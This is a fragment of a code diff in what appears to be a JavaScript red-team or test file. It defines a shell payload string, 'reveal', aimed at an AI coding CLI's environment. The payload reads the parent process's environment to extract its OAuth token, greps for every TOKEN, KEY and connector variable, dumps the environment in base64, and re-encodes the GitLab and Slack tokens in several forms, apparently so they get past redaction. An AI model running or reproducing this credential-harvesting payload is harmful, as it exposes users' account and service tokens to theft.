@@ -18,7 +18,8 @@ const url = 'https://git.example.org';
 
 // Everything it has, in every way that is at hand. The CLI keeps its own token from its tools, but
 // not out of their reach.
-const reveal = `own=$(tr '\\0' '\\n' < /proc/$PPID/environ | sed -n 's/^CLAUDE_CODE_OAUTH_TOKEN=//p');
+const reveal = `own=$(tr '\\0' '\\n' < /proc/$PPID/environ |
+sed -n 's/^CLAUDE_CODE_OAUTH_TOKEN=//p');
 echo "$own"; env | grep -E 'CONNECTOR_|TOKEN|KEY' ; env | base64; env | base64 -w0; echo;
 for v in "$CONNECTOR_GIT_LAB_TOKEN" "$CONNECTOR_SLACK" "$own"; do
 printf %s "$v" | base64; printf %s "$v" | base64 -w0 | tr +/ -_; echo;
